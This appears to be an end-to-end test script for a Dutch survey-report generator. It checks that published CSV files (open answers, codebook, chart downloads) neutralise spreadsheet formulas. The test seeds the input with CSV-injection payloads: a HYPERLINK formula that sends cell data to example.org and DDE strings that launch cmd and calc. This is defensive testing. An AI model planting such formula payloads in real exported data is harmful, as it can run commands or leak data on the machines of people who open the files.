# No spreadsheet formula in any published CSV (issue 21): an open answer, a
# gemeente name and an item label that start with = + - @ or a tab are
# published with a leading ' in open-antwoorden.csv, codeboek.csv and the
# chart downloads; numbers stay numbers; every other field is unchanged.
. "$ROOT/tests/e2e_lib.sh"
copy_input
python3 - "$TMP/in" <<'PY'
import csv, sys, re
d = sys.argv[1]
rows = list(csv.reader(open(d + "/antwoorden.csv", encoding="utf-8")))
col = rows[0].index("voorbeelden")
gcol = rows[0].index("gemeentecode")
rows[1][col] = '=HYPERLINK("http://example.org/?x="&A1,"klik")'
rows[2][col] = "+cmd|' /C calc'!A0"
rows[3][col] = "@SUM(1+1)*cmd|' /C calc'!A0"
rows[4][col] = "\t=1+1"
rows[5][col] = "-2+3"
csv.writer(open(d + "/antwoorden.csv", "w", encoding="utf-8", newline=""), lineterminator="\n").writerows(rows)
gem = rows[1][gcol]
reg = open(d + "/gemeenten-2013.csv", encoding="utf-8").read()
reg = re.sub(r"^(%s),([^,]*)," % gem, lambda m: m.group(1) + ",=" + m.group(2) + ",", reg, flags=re.M)
open(d + "/gemeenten-2013.csv", "w", encoding="utf-8").write(reg)
q = open(d + "/vragenlijst.xml", encoding="utf-8").read()
q = q.replace(">Nieuwe netwerken en coalities van", ">-Nieuwe netwerken en coalities van", 1)
open(d + "/vragenlijst.xml", "w", encoding="utf-8").write(q)
PY
"$GEN" --input "$TMP/in" --variant nederland --out "$TMP/out" 2>"$TMP/err" || { cat "$TMP/err"; exit 1; }
python3 - "$TMP/out/nederland" <<'PY'
import csv, glob, re, sys
d = sys.argv[1]
files = [d + "/cijfers.csv", d + "/codeboek.csv", d + "/open-antwoorden.csv"] + sorted(glob.glob(d + "/figuren/*.csv"))
num = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
bad, quoted, n = [], set(), 0
for f in files:
    for row in csv.reader(open(f, encoding="utf-8", newline="")):
        for v in row:
            n += 1
            if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not num.match(v):
                bad.append((f.split("/")[-1], v))
            if v.startswith("'"):
                quoted.add(f.split("/")[-1])
if bad:
    print("formula-like fields published:", bad[:10])
    sys.exit(1)
oa = open(d + "/open-antwoorden.csv", encoding="utf-8").read()
for want in ["'=HYPERLINK(", "'+cmd|", "'@SUM(", "'\t=1+1", "'-2+3", ",'="]:
    if want not in oa:
        print("open-antwoorden.csv lacks", repr(want)); sys.exit(1)
cb = open(d + "/codeboek.csv", encoding="utf-8").read()
if "'-Nieuwe netwerken" not in cb:
    print("codeboek.csv: the item label is not neutralised"); sys.exit(1)
figs = "".join(open(f, encoding="utf-8").read() for f in glob.glob(d + "/figuren/*.csv"))
if "'-Nieuwe netwerken" not in figs and '"\'-Nieuwe netwerken' not in figs:
    print("figuren/*.csv: the item label is not neutralised"); sys.exit(1)
print("info: %d fields in %d CSV files, none a formula; neutralised in %s" % (n, len(files), ", ".join(sorted(quoted))))
PY
